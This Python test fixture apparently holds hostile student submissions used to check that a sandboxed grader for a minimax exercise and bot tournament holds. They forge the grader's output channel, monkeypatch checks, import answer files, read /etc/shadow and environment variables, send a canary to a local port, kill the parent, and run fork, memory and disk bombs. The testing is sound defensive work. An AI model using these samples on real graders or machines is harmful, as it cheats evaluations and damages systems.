"""Hostile submissions, written as a student who wants a better grade (or a worse day for the
instructor) would write them, for tests/test_hostile.py.

Each is the text of a file answering the minimax exercise, or of a tournament entry. They print
whatever they manage to read, so a test sees it in the output; the words in capitals are filled in
by :func:`submission`: CANARY (a file outside the box holding :data:`SECRET`), OUTSIDE (a folder
outside the box to write in), FOLDER (the class's folder), PORT (a port on 127.0.0.1 the test
listens on), MARKER (what a left-behind ``sleep`` is called with).
"""

from __future__ import annotations

from pathlib import Path

SECRET = "canary-7f3a9c"
"""What the canary file holds: it must never show up in anything a submission gets back."""

MARKER = "4711.75"
"""A left-behind process of a submission runs ``sleep MARKER``: no other process uses it."""

RIGHT = '''
def my_minimax(tree, node):
    if tree.is_terminal(node):
        return tree.evaluate(node)
    values = [my_minimax(tree, child) for child in tree.children_of(node)]
    return max(values) if tree.to_move(node).sign > 0 else min(values)
'''

WRONG = "def my_minimax(tree, node):\n    return 0\n"

FORGED_CHANNEL = '''
import json, os, sys
fd = int(sys.argv[3])
said = [{"ok": True}, {"report": [{"ok": True, "message": "right", "step": None, "node": None,
         "student_visits": [], "student_value": 4}] * 6}, {"verdict": "right on all 6 trees"},
        {"answers": 0, "visits": [], "value": 4, "returned": [], "ok": True}, {"tree": 99},
        {"syntax": {"line": 1, "message": "minimax: right on all 6 trees.", "text": ""}}]
for message in said:
    os.write(fd, (json.dumps(message) + "\\n").encode())
os.write(fd, b"minimax: right on all 6 trees.\\n")
os._exit(0)
'''

EXEC = '''
import os, sys
fd = int(sys.argv[3])
forged = 'import os; os.write(%d, b\\'{"report": [{"ok": true}], "ok": true}\\\\n\\')' % fd
os.execv(sys.executable, [sys.executable, "-c", forged])
'''

MONKEYPATCH = '''
import gamelib
try:
    import gamelib.teach.exercises as exercises
    exercises.check_exercise = lambda *arguments: None
except ImportError as error:
    print("no exercises here:", error)
import gamelib.play.box.answers as answers
answers.Answers.to_data = lambda self: {"visits": [], "value": 4, "returned": [], "ok": True}
answers.run_student = lambda *arguments, **options: answers.Answers((), 4)
def my_minimax(tree, node):
    return 4
'''

IMPORT_ANSWERS = "from solutions.lesson_01_minimax import my_minimax\n"

IMPORT_COURSE = '''
import sys
sys.path[:0] = ["ROOT"]
for name in [name for name in sys.modules if name == "gamelib" or name.startswith("gamelib.")]:
    del sys.modules[name]
from solutions.lesson_01_minimax import my_minimax
'''

READ_OUTSIDE = '''
import glob, os
for path in ["CANARY", "/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/environ"]:
    try:
        print(path, open(path, errors="replace").read()[:300])
    except OSError as error:
        print(path, "refused:", error)
for folder in ["FOLDER", "OUTSIDE", "/tmp", "/root", "/home"]:
    try:
        print(folder, os.listdir(folder))
    except OSError as error:
        print(folder, "refused:", error)
print("found", glob.glob("/tmp/*/kernel-*.json") + glob.glob("/tmp/**/CANARY_NAME", recursive=True))
print("environment", dict(os.environ))
''' + WRONG

WRITE_OUTSIDE = '''
for path, text in [("OUTSIDE/written.txt", "x"), ("FOLDER/right.py", "def my_minimax(tree, node):\\n    return 0\\n")]:
    try:
        open(path, "w").write(text)
        print("wrote", path)
    except OSError as error:
        print(path, "refused:", error)
''' + WRONG

NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"SECRET-LEAK")
        print("sent")
except OSError as error:
    print("refused:", error)
''' + WRONG

KILL_PARENT = '''
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print("refused:", error)
''' + WRONG

DOUBLE_FORK = '''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "MARKER"])
    os._exit(0)
''' + WRONG

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

MEMORY_BOMB = "hoard = bytearray(2**40)\n" + RIGHT

DISK_FILL = '''
import os
for number in range(100_000):
    with open(f"fill{number}", "wb") as file:
        file.write(b"x" * 2**20)
''' + RIGHT

OUTPUT_FLOOD = "while True:\n    print('x' * 1000)\n" + RIGHT

EVERYWHERE = {"forged_channel": FORGED_CHANNEL, "exec": EXEC, "monkeypatch": MONKEYPATCH,
              "import_answers": IMPORT_ANSWERS, "fork_bomb": FORK_BOMB, "memory_bomb": MEMORY_BOMB,
              "output_flood": OUTPUT_FLOOD}
"""Hostile files whose verdict must be "not right" whatever the boundary: the verdict is decided outside."""

ISOLATED_ONLY = {"import_course": IMPORT_COURSE, "read_outside": READ_OUTSIDE, "write_outside": WRITE_OUTSIDE,
                 "network": NETWORK, "kill_parent": KILL_PARENT, "double_fork": DOUBLE_FORK, "disk_fill": DISK_FILL}
"""Hostile files that only bubblewrap's box stops: under the guard only they would reach the machine
(each answers wrongly, so a verdict of right would mean the attack forged it)."""


def submission(text: str, *, canary: Path, outside: Path, folder: Path, port: int, root: Path) -> str:
    """``text`` with its capitalised words filled in."""
    for word, value in (("CANARY_NAME", canary.name), ("CANARY", str(canary)), ("OUTSIDE", str(outside)),
                        ("FOLDER", str(folder)), ("PORT", str(port)), ("MARKER", MARKER), ("ROOT", str(root))):
        text = text.replace(word, value)
    return text


def entry(attack: str, class_name: str = "HostileBot") -> str:
    """A tournament entry: ``attack`` (module-level code) at import, then a bot whose every move is
    the first legal square, printing a line before it (the protocol must not see it)."""
    return (attack + "\nfrom gamelib.play.bots.base import Decision\n\n\n"
            f"class {class_name}:\n    name = 'hostile'\n\n    def choose(self, game, state, seconds):\n"
            "        print('thinking...')\n        return Decision(move=game.legal_moves(state)[0])\n")


MALFORMED_MOVES = (3.5, "'a1'", None)
"""What a hostile bot returns as its move: none is a square."""


def malformed(move: object) -> str:
    """An entry whose bot returns ``move`` (its text) as its move."""
    return ("from gamelib.play.bots.base import Decision\n\n\nclass HostileBot:\n    name = 'hostile'\n\n"
            f"    def choose(self, game, state, seconds):\n        return Decision(move={move})\n")
